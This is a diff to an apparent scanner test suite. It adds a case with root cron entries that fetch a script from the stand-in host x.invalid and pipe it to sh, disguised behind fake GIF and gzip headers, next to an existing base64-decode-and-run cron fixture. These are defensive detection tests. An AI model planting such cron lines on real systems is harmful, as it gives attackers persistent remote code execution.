@@ -32,6 +32,14 @@ const cases = [
     ],
   },
   {
+    name: 'whatever the file begins with',
+    files: {
+      'etc/cron.d/x': `GIF8\0\0\0\n* * * * * root curl -s http://x.invalid/a | sh\n`,
+      'etc/cron.d/y': `\x1f\x8b\0\n* * * * * root curl -s http://x.invalid/a | sh\n`,
+    },
+    expected: [`block ${RULE} etc/cron.d/x`, `block ${RULE} etc/cron.d/y`],
+  },
+  {
     name: 'decoded and run',
     files: { 'etc/crontabs/root': '* * * * * echo aW5lcnQ= | base64 -d | sh\n' },
     expected: [`block ${RULE} etc/crontabs/root`],
